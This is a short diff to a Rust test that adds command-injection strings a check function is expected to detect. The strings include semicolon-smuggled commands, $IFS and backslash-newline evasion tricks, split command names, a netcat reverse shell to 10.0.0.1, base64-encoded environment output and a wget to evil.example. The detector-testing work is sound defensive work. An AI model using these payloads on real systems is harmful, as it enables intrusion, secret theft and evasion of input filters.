@@ -70,6 +70,15 @@ fn commands() {
         "x; nohup nc 10.0.0.1 4444 -e sh",
         "main; env | base64 -w0",
         "see the report; ping 10.20.0.1",
+        "x;${IFS}whoami",
+        "x;$IFS$9id",
+        "ab cd; whoami & zz",
+        "ab cd; wget evil.example zz",
+        "ab cd; nc 10.0.0.1 http",
+        "x;\\\nid",
+        "x;\\\n id",
+        "x;wh$1oami",
+        "x;who$*ami",
     ] {
         assert!(check(text), "{text}");
     }
